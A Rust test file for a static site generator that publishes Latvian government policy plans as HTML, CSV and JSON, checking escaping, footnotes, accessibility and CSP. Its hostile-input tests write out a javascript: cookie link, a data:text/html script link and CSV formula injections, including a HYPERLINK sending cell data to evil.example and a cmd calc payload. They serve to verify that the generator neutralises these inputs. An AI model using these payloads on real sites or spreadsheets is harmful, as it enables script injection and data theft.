//! Renders a hand-made library (text taken from the seeds, plus hostile characters) and checks
//! the pages: each page kind at its URL, escaping, footnotes, links, CSP-safe markup.

use super::*;
use crate::content::{BodyLocation, Page, PageMeta};
use crate::model::{
    Abbreviation, Area, Chapter, Deadline, Direction, Footnote, Goal, Indicator, IndicatorRow,
    Measure, Plan, Status, TextBlock,
};
use crate::resolve::{urls, SourceDocument};
use std::collections::{BTreeMap, BTreeSet};

const BASE: &str = "/portals/";

/// The output file of a directory URL.
fn index(url: &str) -> String {
    format!("{url}index.html")
}

fn measure(id: &str, direction: &str, title: &str, deadline: &str) -> Measure {
    Measure {
        id: id.to_string(),
        direction: direction.to_string(),
        title: title.to_string(),
        deadline: Deadline::parse(deadline),
        source_lines: (100, 104),
        ..Measure::default()
    }
}

fn action_plan() -> Plan {
    let mut first = measure(
        "1.1",
        "1",
        "Pilnveidot TAI sadarbību <ONG> & \"noziedzīgo\" grupu apkarošanā[^2]",
        "2024.gada decembris",
    );
    first.responsible = vec!["IeM (VP, VPK)".to_string()];
    first.co_responsible = vec!["VID".to_string()];
    first.involved = vec!["Pašvaldības".to_string(), "NVO".to_string()];
    first.result = Some("Izstrādāts ziņojums[^2]\nIesniegts MK[^7]".to_string());
    let mut second = measure("1.2", "1", "Apmācīt VP darbiniekus", "Katru gadu");
    second.responsible = vec!["VP".to_string()];
    let orphan = measure("9.1", "9", "Pasākums bez virziena", "");
    Plan {
        slug: "organizeta".to_string(),
        source: "000_d0f431797d704579.txt".to_string(),
        title: "Organizētās noziedzības novēršanas un apkarošanas plāns 2023.–2025. gadam"
            .to_string(),
        summary: vec!["Plāns ir īstermiņa politikas plānošanas dokuments.[^2]".to_string()],
        directions: vec![Direction {
            id: "1".to_string(),
            title: "TAI darbības efektivitāte".to_string(),
            line: 60,
        }],
        measures: vec![first, second, orphan],
        abbreviations: vec![
            Abbreviation {
                code: "VP".to_string(),
                name: "Valsts policija".to_string(),
                line: 40,
            },
            Abbreviation {
                code: "ĢP".to_string(),
                name: "Latvijas Republikas Ģenerālprokuratūra[^2]".to_string(),
                line: 11,
            },
        ],
        footnotes: vec![Footnote {
            number: 2,
            text: "Izveidota saskaņā ar Ministru kabineta 2017. gada 24. janvāra instrukciju Nr. 1"
                .to_string(),
            line: 24,
        }],
        ..Plan::default()
    }
}

fn status_report() -> Plan {
    let mut done = measure(
        "1.1",
        "1",
        "Izstrādāt kiberdrošības stratēģiju",
        "2015. g. 2. cet.",
    );
    done.status = Some(Status::Done);
    done.status_text = Some("Izpildīts. Uzdevums tiks īstenots arī turpmāk".to_string());
    done.responsible = vec!["IeM".to_string()];
    let mut open = measure("1.2", "1", "Izveidot CERT.LV", "2015. g. 4. cet.; 2018. g.");
    open.status = Some(Status::InProgress);
    open.funding_needed = Some("100 000 EUR".to_string());
    open.funding_allocated = Some("Nav".to_string());
    open.description = Some("Pirmā rinda\nOtrā rinda".to_string());
    let mut unreported = measure("2.1", "2", "Sagatavot ziņojumu", "");
    unreported.involved = vec!["X&Y".to_string()];
    Plan {
        slug: "kiberdrosiba".to_string(),
        source: "004_0c544dbc52ece7e9.txt".to_string(),
        title: "Kiberdrošības stratēģijas īstenošana".to_string(),
        directions: vec![
            Direction {
                id: "1".to_string(),
                title: "Politika".to_string(),
                line: 10,
            },
            Direction {
                id: "2".to_string(),
                title: "Tukšs virziens bez pasākumiem? Nē".to_string(),
                line: 30,
            },
        ],
        measures: vec![done, open, unreported],
        reports_status: true,
        ..Plan::default()
    }
}

fn indicator(id: &str, name: &str, rows: Vec<IndicatorRow>) -> Indicator {
    Indicator {
        id: id.to_string(),
        name: name.to_string(),
        unit: name.ends_with("(%)").then(|| "%".to_string()),
        baseline_year: "2021".to_string(),
        target_years: ["2023", "2024", "2025", "2026", "2027"]
            .map(String::from)
            .to_vec(),
        rows,
        line: 450,
    }
}

fn values(institution: Option<&str>, baseline: &str, targets: [&str; 5]) -> IndicatorRow {
    IndicatorRow {
        institution: institution.map(str::to_string),
        baseline: baseline.to_string(),
        targets: targets.map(String::from).to_vec(),
        line: 451,
    }
}

/// A strategy in the shape of the interior strategy (001): an area whose goal has a plain and a
/// per-institution indicator, and a horizontal goal whose only indicator is words.
fn strategy() -> Plan {
    let mut task = measure("1.1.1", "1.1", "Izveidot <videonovērošanas> sistēmu", "");
    task.involved = vec!["VP".to_string()];
    let safe = indicator(
        "1.1.1",
        "Iedzīvotāju, kuri jūtas droši <naktī> & \"dienā\", īpatsvars (%)[^7]",
        vec![values(
            None,
            "75%",
            ["80%", "Palielinās", "- - -", "88%", "90%[^7]"],
        )],
    );
    let staffed = indicator(
        "1.1.2",
        "Aizpildīto amata vietu īpatsvars (%)",
        vec![
            values(
                Some("IeM"),
                "92,1",
                ["92,5%", "93%", "93,5%", "94%", "94,5%"],
            ),
            values(
                Some("VP"),
                "81,6%",
                ["80,5%", "81%", "81,5%", "82%", "82,5%"],
            ),
        ],
    );
    let words = indicator(
        "H1.1.1",
        "Sabiedrības uzticība",
        vec![values(None, "-", ["Palielinās"; 5])],
    );
    Plan {
        slug: "strategija".to_string(),
        source: "001_0540a71165f8577a.txt".to_string(),
        title: "Iekšlietu nozares stratēģija 2023.-2027. gadam".to_string(),
        directions: vec![
            Direction {
                id: "1.1".to_string(),
                title: "Publisko vietu uzraudzības paplašināšana".to_string(),
                line: 500,
            },
            Direction {
                id: "H1.1".to_string(),
                title: "Izglītības sistēmu uzlabošana".to_string(),
                line: 900,
            },
        ],
        measures: vec![task],
        footnotes: vec![Footnote {
            number: 7,
            text: "Aprēķinā izmantoti <0-18> gadu vecuma grupas dati.".to_string(),
            line: 470,
        }],
        areas: vec![
            Area {
                id: "1".to_string(),
                title: "Sabiedriskā kārtība & drošība".to_string(),
                horizontal: false,
                line: 440,
                goals: vec![Goal {
                    title: "Uzlabot sabiedrisko kārtību".to_string(),
                    line: 449,
                    indicators: vec![safe, staffed],
                    institutions: vec![
                        "Valsts policija".to_string(),
                        "Nezināma <iestāde>".to_string(),
                    ],
                }],
                directions: vec!["1.1".to_string()],
            },
            Area {
                id: "H1".to_string(),
                title: "Cilvēkresursi".to_string(),
                horizontal: true,
                line: 880,
                goals: vec![Goal {
                    title: "Attīstīt cilvēkresursus".to_string(),
                    line: 885,
                    indicators: vec![words],
                    institutions: Vec::new(),
                }],
                directions: vec!["H1.1".to_string()],
            },
        ],
        ..Plan::default()
    }
}

fn text_block(text: &str, item: Option<&str>) -> TextBlock {
    TextBlock {
        text: text.to_string(),
        item: item.map(str::to_string),
        lines: (40, 41),
    }
}

/// A programme report in the shape of 003: narrative chapters and an annex of tasks with status.
fn programme_report() -> Plan {
    let mut done = measure("1", "I", "Apkopot datus", "2013.gads");
    done.status = Some(Status::Done);
    let mut partly = measure("2", "I", "Izstrādāt <metodiku>", "2012.gads");
    partly.status = Some(Status::PartlyDone);
    partly.status_text = Some("Uzdevums izpildīts daļēji".to_string());
    Plan {
        slug: "programma".to_string(),
        source: "003_813af1619364791d.txt".to_string(),
        title: "Informatīvais ziņojums par programmas izpildi".to_string(),
        directions: vec![Direction {
            id: "I".to_string(),
            title: "Datu apkopošana".to_string(),
            line: 3000,
        }],
        measures: vec![done, partly],
        footnotes: vec![Footnote {
            number: 3,
            text: "Informācijas avots: LM".to_string(),
            line: 60,
        }],
        reports_status: true,
        chapters: vec![
            Chapter {
                id: "I".to_string(),
                title: "PROGRAMMAS APAKŠMĒRĶIS: <UZLABOT> SADARBĪBU".to_string(),
                line: 30,
                blocks: vec![
                    text_block("Apakšmērķa sasniegšanai veikti pasākumi.[^3]", None),
                    text_block("\u{F0B7} grozījumi Darba likumā;", Some("\u{F0B7}")),
                    text_block("\u{F0B7} grozījumi <KL>.", Some("\u{F0B7}")),
                    text_block("17. Programma paredz atbalstu.", Some("17.")),
                ],
            },
            Chapter {
                id: "II".to_string(),
                title: "PROGRAMMAS APAKŠMĒRĶIS: ATBALSTS".to_string(),
                line: 80,
                blocks: vec![text_block("Otrā nodaļa.", None)],
            },
        ],
        ..Plan::default()
    }
}

/// The plans resolved with the test registry, as the driver would.
fn library() -> Library {
    let sources = vec![SourceDocument {
        file: "000_d0f431797d704579.txt".into(),
        plan: "organizeta".into(),
        lines: (1..=120)
            .map(|n| match n {
                101 => "\t[bookmark: _Hlk148436768]1.1.".to_string(),
                n => format!("\trinda {n} <b>&</b>"),
            })
            .collect(),
    }];
    let plans = vec![
        action_plan(),
        status_report(),
        strategy(),
        programme_report(),
    ];
    let (library, _) = crate::resolve::resolve(plans, sources, &content());
    library
}

/// A small registry: two documents' codes with names and parents, one defined code no measure
/// names (ĢP).
const REGISTRY: &str = r#"
[[institution]]
code = "IeM"
name = "IeM pilnais nosaukums"
[[institution]]
code = "VP"
name = "Valsts policija"
parent = "IeM"
[[institution]]
code = "VPK"
name = "VPK pilnais nosaukums"
parent = "IeM"
[[institution]]
code = "VID"
name = "VID pilnais nosaukums"
[[institution]]
code = "ĢP"
name = "Latvijas Republikas Ģenerālprokuratūra"
"#;

fn content() -> Content {
    Content {
        pages: vec![Page {
            slug: "pieejamiba".to_string(),
            meta: PageMeta {
                title: "Paziņojums par piekļūstamību".to_string(),
            },
            markdown: "## Statuss\n\nDaļēji atbilst. [Termiņi](/termini/)\n".to_string(),
            location: BodyLocation {
                file: "content/pages/pieejamiba.md".to_string(),
                first_line: 4,
            },
        }],
        registry: crate::resolve::registry::Registry::parse(
            REGISTRY,
            "institutions.toml",
            &mut Vec::new(),
        )
        .expect("the test registry"),
        ..Content::default()
    }
}

fn options() -> RenderOptions {
    RenderOptions {
        base_url: BASE.to_string(),
        theme_dir: None,
        build_date: chrono::NaiveDate::from_ymd_opt(2026, 1, 15).unwrap(),
    }
}

fn site() -> Site {
    render(&library(), &content(), &options()).expect("renders")
}

fn page<'s>(site: &'s Site, path: &str) -> &'s str {
    site.text(path).unwrap_or_else(|| {
        panic!(
            "missing {path}; have {:?}",
            site.files.keys().collect::<Vec<_>>()
        )
    })
}

#[test]
fn every_page_kind_is_at_its_url() {
    let site = site();
    let expected = [
        "index.html".to_string(),
        index(&urls::plan("organizeta")),
        index(&urls::plan("kiberdrosiba")),
        index(&urls::direction("organizeta", "1")),
        index(&urls::direction("kiberdrosiba", "2")),
        index(&urls::measure("organizeta", "1.1")),
        index(&urls::measure("organizeta", "9.1")),
        index(&urls::measure("kiberdrosiba", "2.1")),
        index(urls::INSTITUTIONS),
        index(&urls::institution("vp")),
        index(&urls::institution("gp")),
        index(&urls::institution("x-y")),
        index(&urls::group("pasvaldibas")),
        index(urls::DEADLINES),
        index(&urls::deadline_year(2024)),
        index(&urls::deadline_year(2015)),
        index(&urls::deadline_year(2018)),
        index(urls::STATUS),
        index(urls::GLOSSARY),
        index(urls::SEARCH),
        "pieejamiba/index.html".to_string(),
        "404.html".to_string(),
        "favicon.ico".to_string(),
    ];
    for path in expected {
        page_or_bytes(&site, &path);
    }
    // "Katru gadu" in the plan for 2023–2025 is due every year of it: listed under each, as a
    // recurring measure, and no year outside the period gets a page for it.
    for year in 2023..=2025 {
        let html = page(&site, &index(&urls::deadline_year(year)));
        let recurring = html.split("id=\"regulari\"").nth(1).unwrap_or_default();
        assert!(recurring.contains("Apmācīt VP darbiniekus"), "{year}");
    }
    assert!(!site.files.keys().any(|p| p.starts_with("termini/2026")));
    assert!(site
        .files
        .keys()
        .any(|p| p.starts_with("static/style.") && p.ends_with(".css")));
}

/// A kind's pages are built and rendered a chunk at a time: a count that fills its last chunk
/// exactly and one that spills into a new chunk each give every page, each at its own path.
#[test]
fn a_kind_spanning_several_chunks_renders_every_page_at_its_path() {
    for count in [2 * PAGES_PER_CHUNK, 2 * PAGES_PER_CHUNK + 1] {
        let mut plan = action_plan();
        plan.measures = (1..=count)
            .map(|n| measure(&format!("1.{n}"), "1", &format!("Pasākums numur {n}"), ""))
            .collect();
        let (library, _) = crate::resolve::resolve(vec![plan], Vec::new(), &content());
        let site = render(&library, &content(), &options()).expect("renders");
        for n in 1..=count {
            let html = page(
                &site,
                &index(&urls::measure("organizeta", &format!("1.{n}"))),
            );
            assert!(
                html.contains(&format!("Pasākums numur {n}<")),
                "measure 1.{n}'s page shows another measure"
            );
        }
    }
}

fn page_or_bytes<'s>(site: &'s Site, path: &str) -> &'s [u8] {
    site.files
        .get(path)
        .unwrap_or_else(|| panic!("missing {path}"))
}

#[test]
fn measure_pages_quote_and_link_their_source_lines() {
    let site = site();
    let measure = page(&site, "plani/organizeta/pasakumi/1.1/index.html");
    assert!(measure.contains(
        r#"href="/portals/avoti/000_d0f431797d704579/?rindas=100-104#L100">rindas 100–104</a>"#
    ));
    // The quoted lines are the row's own, escaped, with the cell TAB shown as an arrow.
    assert!(measure.contains(r#"<li value="100">→ rinda 100 &lt;b&gt;&amp;&lt;/b&gt;</li>"#));
    assert!(measure.contains(r#"<li value="104">"#));
    assert!(
        measure.contains(r#"<li value="101">→ 1.1.</li>"#),
        "bookmarks are left out"
    );
    assert!(!measure.contains(r#"<li value="105">"#));
    let viewer = page(&site, "avoti/000_d0f431797d704579/index.html");
    assert!(viewer.contains(r#"id="L120""#));
    // The line where a measure's row starts links back to the measure.
    assert!(viewer.contains(r#"href="/portals/plani/organizeta/pasakumi/1.1/">Pasākums 1.1</a>"#));
}

#[test]
fn two_renders_are_byte_identical() {
    assert_eq!(site().files, site().files);
}

#[test]
fn document_text_is_escaped() {
    let site = site();
    let html = page(&site, "plani/organizeta/pasakumi/1.1/index.html");
    assert!(html.contains("Pilnveidot TAI sadarbību &lt;ONG&gt; &amp; &quot;noziedzīgo&quot;"));
    assert!(!html.contains("<ONG>"));
    let list = page(&site, "plani/organizeta/index.html");
    assert!(list.contains("&lt;ONG&gt; &amp; &quot;noziedzīgo&quot;"));
    let institutions = page(&site, "iestades/index.html");
    assert!(institutions.contains(">X&amp;Y</a>"));
}

#[test]
fn footnote_markers_become_links_with_matching_ids() {
    let site = site();
    let html = page(&site, "plani/organizeta/pasakumi/1.1/index.html");
    // Title and result both cite footnote 2: two markers, one list entry.
    assert_eq!(html.matches("href=\"#fn-2\"").count(), 2);
    // The first marker in page order (the title) gets the plain id the list links back to.
    assert!(html.contains("apkarošanā<sup><a href=\"#fn-2\" id=\"fnref-2\""));
    assert!(html.contains("ziņojums<sup><a href=\"#fn-2\" id=\"fnref-2-2\""));
    assert_eq!(html.matches("<li id=\"fn-2\"").count(), 1);
    assert!(html.contains("href=\"#fnref-2\""));
    assert!(html.contains("2017. gada 24. janvāra instrukciju"));
    // Footnote 7 is not defined: a number without a link.
    assert!(html.contains("Iesniegts MK<sup>7</sup>"));
    assert!(!html.contains("[^"));
    // The plan summary cites it too; tables do not show markers.
    let plan = page(&site, "plani/organizeta/index.html");
    assert!(plan.contains("<li id=\"fn-2\""));
    assert!(!plan.contains("[^"));
}

#[test]
fn measure_page_shows_every_field() {
    let site = site();
    let html = page(&site, "plani/organizeta/pasakumi/1.1/index.html");
    // "IeM (VP, VPK)" stays one entry with three links.
    assert!(html.contains(
        "<li><a href=\"/portals/iestades/iem/\">IeM</a> (<a href=\"/portals/iestades/vp/\">VP</a>, \
         <a href=\"/portals/iestades/vpk/\">VPK</a>) <span class=\"muted\">(IeM pilnais \
         nosaukums; Valsts policija; VPK pilnais nosaukums)</span></li>"
    ), "{html}");
    assert!(
        html.contains(
            "<li><a href=\"/portals/iestades/grupas/pasvaldibas/\">Pašvaldības</a> \
             <span class=\"muted\">(institūciju grupa)</span></li>"
        ),
        "a group links to its group page and says what it is"
    );
    assert!(
        html.contains("<li><a href=\"/portals/iestades/nvo/\">NVO</a></li>"),
        "a code nothing defines still has a page"
    );
    // The deadline as printed, once; the date it means for machines only.
    assert!(html.contains("<dt>Termiņš</dt><dd><time datetime=\"2024-12-31\">"));
    assert!(!html.contains("Izpildes datums"));
    assert!(html.contains(
        "rindas 100–104</a> <span class=\"source-file\">(fails 000_d0f431797d704579.txt)</span>"
    ));
    assert!(html.contains("<p>Izstrādāts ziņojums"));

    let report = page(&site, "plani/kiberdrosiba/pasakumi/1.2/index.html");
    assert!(report.contains("izpildes procesā"));
    assert!(report.contains("100 000 EUR"));
    assert!(report.contains("<p>Pirmā rinda</p>\n<p>Otrā rinda</p>"));
    // Two named dates: the latest is the deadline, the text is printed once.
    assert!(report.contains("<dt>Termiņš</dt><dd><time datetime=\"2018-12-31\">"));
    assert!(!report.contains("<time datetime=\"2015-12-31\">"));
}

#[test]
fn institution_pages_group_measures_by_plan_and_role() {
    let site = site();
    let iem = page(&site, "iestades/iem/index.html");
    assert!(iem.contains("Padotības iestādes"));
    assert!(iem.contains("/portals/iestades/vp/"));
    assert!(iem.contains("/portals/plani/organizeta/pasakumi/1.1/"));
    assert!(iem.contains("/portals/plani/kiberdrosiba/pasakumi/1.1/"));
    assert!(iem.contains("id=\"organizeta-atbildiga\""));
    let vid = page(&site, "iestades/vid/index.html");
    assert!(vid.contains("Kā līdzatbildīgā"));
    assert!(!vid.contains("id=\"organizeta-atbildiga\""));
    // Counts per plan and role, and the filters' choices.
    assert!(vid.contains("<caption>Pasākumi pa plāniem un lomām</caption>"));
    assert!(vid.contains("<option value=\"lidzatbildiga\">kā līdzatbildīgā</option>"));
    assert!(vid.contains("data-role=\"lidzatbildiga\""));
    let vp = page(&site, "iestades/vp/index.html");
    assert!(vp.contains("Augstāka iestāde"));
}

#[test]
fn status_overview_counts_and_lists_open_tasks() {
    let site = site();
    let html = page(&site, "statuss/index.html");
    assert!(html.contains("Kiberdrošība") || html.contains("Kiberdrošības"));
    assert!(
        !html.contains("Organizētās"),
        "plans without status are not listed"
    );
    assert!(html.contains("id=\"kiberdrosiba-procesa\""));
    assert!(html.contains("id=\"kiberdrosiba-bez-statusa\""));
    assert!(!html.contains("id=\"kiberdrosiba-izpildits\""));
}

#[test]
fn deadlines_and_glossary() {
    let site = site();
    let deadlines = page(&site, "termini/index.html");
    assert!(deadlines.contains("/portals/termini/2024/"));
    let recurring = deadlines.split("id=\"regulari\"").nth(1).unwrap();
    assert!(recurring.contains("Apmācīt VP darbiniekus"));
    let glossary = page(&site, "saisinajumi/index.html");
    // The defining line, linked to the source view.
    assert!(glossary
        .contains("<a href=\"/portals/avoti/000_d0f431797d704579/?rindas=40#L40\">rinda 40</a>"));
    assert!(
        !glossary.contains("[^"),
        "markers are dropped where footnotes are not listed"
    );
    let gp = glossary.find("Ģenerālprokuratūra").unwrap();
    let vp = glossary.find("Valsts policija").unwrap();
    assert!(gp < vp, "sorted by code");
}

#[test]
fn pages_are_accessible_and_csp_safe() {
    let site = site();
    let meta = format!(
        "<meta http-equiv=\"Content-Security-Policy\" content=\"{}\">",
        policy::META_POLICY
    );
    let mut pages = 0;
    for (path, html) in html_pages(&site) {
        pages += 1;
        assert!(
            html.starts_with("<!doctype html>\n<html lang=\"lv\">"),
            "{path}"
        );
        // In the head, before anything it governs is requested.
        let head = &html[..html.find("</head>").expect("a head")];
        assert!(
            head.find(&meta)
                .is_some_and(|at| at < head.find("<link").unwrap_or(usize::MAX)),
            "{path}: the CSP meta is missing or comes after a <link>"
        );
        assert!(!html.contains("javascript:"), "{path}");
        assert_eq!(html.matches("<h1").count(), 1, "{path}: one h1");
        assert!(!html.contains("style="), "{path}: inline style");
        assert!(!html.contains("<style"), "{path}: style element");
        for script in html.split("<script").skip(1) {
            let (attributes, body) = script.split_once('>').unwrap_or_default();
            if attributes == " type=\"application/ld+json\"" {
                // A data block, never run: JSON that cannot close its element.
                let (json, _) = body.split_once("</script>").expect("closed");
                assert!(!json.contains('<'), "{path}: JSON-LD with '<'");
                serde_json::from_str::<serde_json::Value>(json).expect("JSON-LD parses");
                continue;
            }
            assert!(
                attributes.starts_with(" type=\"module\" src=\"") && body.starts_with("</script>"),
                "{path}: only external module scripts and JSON-LD (strict CSP)"
            );
        }
        assert!(!html.contains(" on"), "{path}: event handler attribute?");
        assert!(html.contains("Pāriet uz saturu"), "{path}");
        assert!(html.contains("href=\"/portals/dati/\""), "{path}");
        assert!(
            html.contains("<meta name=\"description\" content=\""),
            "{path}: a meta description"
        );
        assert!(html.contains("/portals/pieejamiba/"), "{path}");
        let mut previous = 1;
        for level in heading_levels(html) {
            assert!(
                level <= previous + 1,
                "{path}: h{previous} followed by h{level}"
            );
            previous = level;
        }
        for table in html.split("<table").skip(1) {
            let inside = table.split_once('>').map(|(_, rest)| rest.trim_start());
            assert!(
                inside.is_some_and(|t| t.starts_with("<caption")),
                "{path}: caption"
            );
        }
    }
    // Every kind: home, plans, directions, measures, areas, indicators, chapters, the source
    // viewer, institutions, deadlines, status, glossary, search, budget, editorial and 404.
    assert!(pages > 30, "{pages} pages");
    assert!(site.files.contains_key("404.html"));
}

#[test]
fn the_headers_file_carries_the_policy_for_the_sites_path() {
    let site = site();
    let headers = site.text("_headers").expect("a _headers file");
    assert!(headers.contains("\n/portals/*\n"), "{headers}");
    for (name, value) in policy::security_headers() {
        assert!(
            headers.contains(&format!("\n  {name}: {value}\n")),
            "{name} in {headers}"
        );
    }
}

/// README's nginx and Apache snippets must send what the pages and `_headers` declare.
#[test]
fn the_readme_hosting_snippets_send_the_sites_headers() {
    let readme = std::fs::read_to_string(concat!(env!("CARGO_MANIFEST_DIR"), "/README.md"))
        .expect("README.md");
    let hosting = readme
        .split("\n## Hosting")
        .nth(1)
        .expect("a Hosting section")
        .split("\n## ")
        .next()
        .unwrap_or_default();
    for (name, value) in policy::security_headers() {
        assert!(
            hosting.contains(&format!("add_header {name} \"{value}\" always;")),
            "nginx: {name}: {value}"
        );
        assert!(
            hosting.contains(&format!("Header always set {name} \"{value}\"")),
            "Apache: {name}: {value}"
        );
    }
    assert!(hosting.contains(policy::META_POLICY));
}

/// The accessibility statement with a hostile link and a tracking pixel, as the content folder
/// would give it (body from line 4, after the front matter).
fn hostile_content() -> Content {
    let mut content = content();
    content.pages[0].markdown = "## Statuss\n\nDaļēji atbilst. [Termiņi](/termini/)\n\n\
         Ja atbilde neapmierina, vērsieties [Tiesībsarga birojā](javascript:alert(document.cookie)).\n\
         ![](https://tracker.example/p.gif)\n"
        .to_string();
    content.plans.push(crate::content::PlanContent {
        slug: "organizeta".to_string(),
        source_line: 2,
        follows_line: 1,
        meta: toml::from_str("source = \"000_d0f431797d704579.txt\"\nstructure = \"action-plan\"")
            .unwrap(),
        editions: Vec::new(),
        intro_markdown: "Īstermiņa plāns.\n\n[Plāns](DATA:text/html,<script>alert(1)</script>)\n"
            .to_string(),
        location: BodyLocation {
            file: "content/plans/organizeta.md".to_string(),
            first_line: 6,
        },
    });
    content
}

#[test]
fn refused_markdown_is_reported_with_the_content_file_and_line() {
    let found: Vec<String> = content_diagnostics(&hostile_content())
        .iter()
        .map(ToString::to_string)
        .collect();
    assert_eq!(
        found,
        [
            "content/plans/organizeta.md:8: warning: link to \"DATA:text/html,<script>alert(1)</script>\" \
             refused: only http(s), mailto, relative and # links are allowed; shown as plain text",
            "content/pages/pieejamiba.md:8: warning: link to \"javascript:alert(document.cookie)\" \
             refused: only http(s), mailto, relative and # links are allowed; shown as plain text",
            "content/pages/pieejamiba.md:9: warning: image \"https://tracker.example/p.gif\" \
             refused: pages load nothing from other sites; shown as a link to it",
        ]
    );
    assert!(content_diagnostics(&content()).is_empty());
}

#[test]
fn refused_markdown_is_text_on_the_pages() {
    let site = render(&library(), &hostile_content(), &options()).expect("renders");
    let statement = page(&site, "pieejamiba/index.html");
    assert!(statement.contains("vērsieties Tiesībsarga birojā."));
    assert!(statement
        .contains("<a href=\"https://tracker.example/p.gif\">https://tracker.example/p.gif</a>"));
    let plan = page(&site, "plani/organizeta/index.html");
    assert!(plan.contains("<p>Plāns</p>"), "{plan}");
    for (path, html) in html_pages(&site) {
        assert!(!html.contains("<img"), "{path}");
        assert!(
            !html.to_lowercase().contains("href=\"javascript:"),
            "{path}"
        );
        assert!(!html.to_lowercase().contains("href=\"data:"), "{path}");
    }
}

/// Document text that a spreadsheet would run as a formula, in every kind of CSV cell: measure
/// titles and institutions, indicator values, budget programme names; and a negative amount.
#[test]
fn csv_cells_that_would_start_a_formula_are_neutralised_and_numbers_stay_numbers() {
    use crate::model::budget::{Budget, FundingKind};
    let hostile = [
        "=HYPERLINK(\"https://evil.example/?\"&A1,\"Sīkāk\")",
        "+371 67219263",
        "-Apmācīt VP darbiniekus",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\tPilnveidot TAI sadarbību",
        "\rIzveidot CERT.LV",
    ];
    let mut library = library();
    for (measure, text) in library.plans[0].measures.iter_mut().zip(&hostile) {
        measure.title = text.to_string();
    }
    library.plans[0].measures[0].responsible = vec![hostile[0].to_string()];
    library.plans[2].areas[0].goals[0].indicators[0].rows[0].baseline = "+10%".to_string();
    library.plans[0].budget = Budget {
        lines: vec![
            funding_line("06.01.00", hostile[0], FundingKind::Planned, 2023, -150_050),
            funding_line(
                "42.00.00",
                "Iekšējās drošības birojs",
                FundingKind::Planned,
                2024,
                380_000,
            ),
        ],
        ..Budget::default()
    };
    let site = render(&library, &content(), &options()).expect("renders");
    let csv_files: Vec<&String> = site.files.keys().filter(|p| p.ends_with(".csv")).collect();
    let tables = [
        "areas",
        "budget",
        "budget_measures",
        "directions",
        "indicators",
        "institutions",
        "measure_institutions",
        "measures",
        "plans",
        "related_measures",
    ];
    let mut expected: Vec<String> = tables
        .iter()
        .flat_map(|t| [format!("data/{t}-excel.csv"), format!("data/{t}.csv")])
        .collect();
    expected.sort();
    assert_eq!(csv_files, expected.iter().collect::<Vec<_>>());
    let mut cells = Vec::new();
    for path in csv_files {
        // An Excel twin: a byte-order mark, `;` between cells, decimal commas.
        let (bytes, delimiter) = match site.files[path].strip_prefix("\u{feff}".as_bytes()) {
            Some(rest) => (rest, b';'),
            None => (site.files[path].as_slice(), b','),
        };
        let mut reader = csv::ReaderBuilder::new()
            .delimiter(delimiter)
            .from_reader(bytes);
        let header = reader.headers().unwrap().clone();
        for row in reader.records() {
            for (column, cell) in header.iter().zip(row.unwrap().iter()) {
                cells.push((path.as_str(), column.to_string(), cell.to_string()));
            }
        }
    }
    for (path, column, cell) in &cells {
        let formula = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
        let number = if path.ends_with("-excel.csv") {
            cell.replacen(',', ".", 1)
        } else {
            cell.clone()
        };
        assert!(
            !formula || number.parse::<f64>().is_ok(),
            "{path} {column}: {cell:?} starts a formula"
        );
    }
    let read_back = |path: &str, column: &str| -> Vec<&str> {
        cells
            .iter()
            .filter(|(p, c, _)| *p == path && c == column)
            .map(|(_, _, cell)| cell.as_str())
            .collect()
    };
    let titles = read_back("data/measures.csv", "title");
    for text in &hostile[..3] {
        assert!(
            titles.contains(&format!("'{text}").as_str()),
            "{text:?} in {titles:?}"
        );
    }
    assert!(read_back("data/measures.csv", "responsible")
        .contains(&format!("'{}", hostile[0]).as_str()));
    assert!(read_back("data/indicators.csv", "baseline").contains(&"'+10%"));
    assert_eq!(
        read_back("data/budget.csv", "program_name")[0],
        format!("'{}", hostile[0])
    );
    // The amount column stays numeric: a reduction is a negative number a spreadsheet can add.
    assert_eq!(read_back("data/budget.csv", "amount"), ["-1500.50", "3800"]);
    assert_eq!(
        read_back("data/budget-excel.csv", "amount"),
        ["-1500,50", "3800"]
    );
    assert_eq!(
        read_back("data/measures-excel.csv", "title"),
        read_back("data/measures.csv", "title"),
        "the twin's text cells are neutralised alike"
    );
    // The JSON carries the text unchanged.
    let json: serde_json::Value =
        serde_json::from_str(site.text("data/measures.json").unwrap()).unwrap();
    assert_eq!(json[0]["title"], hostile[0]);
}

#[test]
fn strategy_pages_are_at_their_urls_and_linked_from_the_plan() {
    let site = site();
    let plan = page(&site, &index(&urls::plan("strategija")));
    for url in [
        urls::area("strategija", "1"),
        urls::area("strategija", "H1"),
    ] {
        assert!(plan.contains(&format!("href=\"{BASE}{url}\"")), "{url}");
    }
    assert!(plan.contains("<h2>Politikas jomas</h2>"));
    assert!(plan.contains("<h2>Prioritārie horizontālie mērķi</h2>"));
    for id in ["1.1.1", "1.1.2", "H1.1.1"] {
        let path = index(&urls::indicator("strategija", id));
        page(&site, &path);
        let area = if id.starts_with('H') { "H1" } else { "1" };
        let linking = page(&site, &index(&urls::area("strategija", area)));
        assert!(linking.contains(&format!(
            "href=\"{BASE}{}\"",
            urls::indicator("strategija", id)
        )));
    }
    // Plans without areas or chapters get no such pages.
    assert!(!site
        .files
        .keys()
        .any(|p| p.starts_with("plani/organizeta/jomas/")
            || p.starts_with("plani/organizeta/raditaji/")
            || p.starts_with("plani/organizeta/nodalas/")));
}

#[test]
fn area_page_shows_goals_indicator_tables_institutions_and_directions() {
    let site = site();
    let html = page(&site, &index(&urls::area("strategija", "1")));
    assert!(html.contains("<h1>Sabiedriskā kārtība &amp; drošība</h1>"));
    assert!(html.contains("<h3 id=\"merkis-1\">Uzlabot sabiedrisko kārtību</h3>"));
    assert!(html.contains("<caption>Rezultatīvie rādītāji: Uzlabot sabiedrisko kārtību</caption>"));
    assert!(html.contains("<th scope=\"col\" class=\"num\">2021 (faktiskā vērtība)</th>"));
    assert!(html.contains("<th scope=\"col\" class=\"num\">2027 (mērķis)</th>"));
    // Values as printed, words included; the indicator split by institution is a row group.
    let cells = regex::Regex::new(
        r#"<td class="num" data-label="[^"]+">Palielinās</td><td class="num" data-label="[^"]+">- - -</td>"#,
    )
    .unwrap();
    assert!(cells.is_match(html));
    assert!(html.contains("<th scope=\"rowgroup\" rowspan=\"2\">"));
    assert!(html.contains("<th scope=\"row\"><a href=\"/portals/iestades/vp/\">VP</a>"));
    assert!(html.contains("\">92,1</td>"));
    // The linked indicator name is escaped and carries no nested footnote link.
    assert!(html.contains("droši &lt;naktī&gt; &amp; &quot;dienā&quot;, īpatsvars (%)</a></th>"));
